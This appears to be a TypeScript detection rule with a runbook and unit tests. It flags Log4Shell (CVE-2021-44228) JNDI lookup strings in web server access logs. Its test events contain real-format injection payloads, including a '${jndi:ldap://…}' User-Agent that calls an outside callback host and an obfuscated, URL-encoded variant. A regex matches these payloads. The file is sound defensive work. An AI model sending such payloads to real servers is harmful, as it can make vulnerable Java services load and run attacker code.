import { defineRule } from 'caracal/sdk'
import { decodeUri, webContext, webRequest, type WebAccessEvent } from '../helpers/network.js'

/**
 * `${jndi:` and its common obfuscations: nested lookups (`${${lower:j}ndi:`, `${::-j}`) and
 * `${env:…}` / `${sys:…}` data-leak lookups.
 */
const JNDI =
  /\$\{\s*(jndi|[^}]*\$\{[^}]*\}[^}]*\bndi|\$\{::-j\}|(env|sys|ctx|java|base64|lower|upper):)/i

/** Where the payload was found, or '' when none of the logged fields carry it. */
function log4shellField(event: WebAccessEvent): string {
  const req = webRequest(event)
  const fields: [string, string][] = [
    ['uri', decodeUri(req.uri)],
    ['userAgent', req.userAgent],
    ['referer', decodeUri(req.referer)],
    ['forwardedFor', req.forwardedFor],
  ]
  return fields.find(([, value]) => JNDI.test(value))?.[0] ?? ''
}

/** Log4Shell (CVE-2021-44228) JNDI lookup strings in requests. */
export default defineRule({
  id: 'Web.Log4Shell.Attempt',
  name: 'Web Log4Shell JNDI Injection Attempt',
  logTypes: ['Nginx.Access', 'Apache.AccessCombined'],
  severity: 'HIGH',
  description:
    'A request carried a Log4j lookup string (`${jndi:ldap://…}`, obfuscated variants such as ' +
    '`${${lower:j}ndi:`, or `${env:…}` leaks) in the URI, User-Agent, Referer or ' +
    'X-Forwarded-For. Any Java service behind the server that logs these values with a ' +
    'vulnerable Log4j 2 (< 2.17.1) may execute attacker code.',
  reference: 'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
  runbook:
    'Extract the callback host from the payload and search DNS, proxy and conn logs for any ' +
    'internal host contacting it (a lookup or LDAP/RMI connection means the exploit fired). ' +
    'Inventory the Java services behind this server and their Log4j versions. If a callback ' +
    'happened, isolate the service host and investigate for dropped payloads.',
  tags: ['Web', 'Initial Access', 'Log4j'],
  reports: { 'MITRE ATT&CK': ['TA0001:T1190', 'TA0002:T1203'] },
  dedupPeriodMinutes: 60,

  rule(event) {
    return log4shellField(event) !== ''
  },

  title(event) {
    return `Log4Shell attempt from ${webRequest(event).clientIp || 'unknown'} in ${log4shellField(event)}`
  },

  dedup(event) {
    return `web-log4shell:${webRequest(event).clientIp}`
  },

  alertContext(event) {
    return { ...webContext(event), field: log4shellField(event) }
  },

  tests: [
    {
      name: 'Payload in the User-Agent',
      expect: true,
      event: {
        remoteAddr: '45.155.205.233',
        time: '2021-12-10 22:14:05.000',
        request: 'GET / HTTP/1.1',
        status: 200,
        bodyBytesSent: 612,
        httpUserAgent: '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/KGN1cmw=}',
        p_log_type: 'Nginx.Access',
      },
    },
    {
      name: 'Obfuscated payload in the URI (Apache)',
      expect: true,
      event: {
        remote_host_ip_address: '195.54.160.149',
        request_time: '2021-12-11 03:00:00.000',
        request_method: 'GET',
        request_uri: '/?q=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fx.example%2Fa%7D',
        request_protocol: 'HTTP/1.1',
        response_status: 404,
        user_agent: 'Mozilla/5.0',
        p_log_type: 'Apache.AccessCombined',
      },
    },
    {
      name: 'Template-looking but harmless URI',
      expect: false,
      event: {
        remoteAddr: '198.51.100.7',
        time: '2024-06-12 10:02:00.000',
        request: 'GET /docs/templates?name=%24%7Bname%7D HTTP/1.1',
        status: 200,
        httpUserAgent: 'Mozilla/5.0',
        p_log_type: 'Nginx.Access',
      },
    },
  ],
})
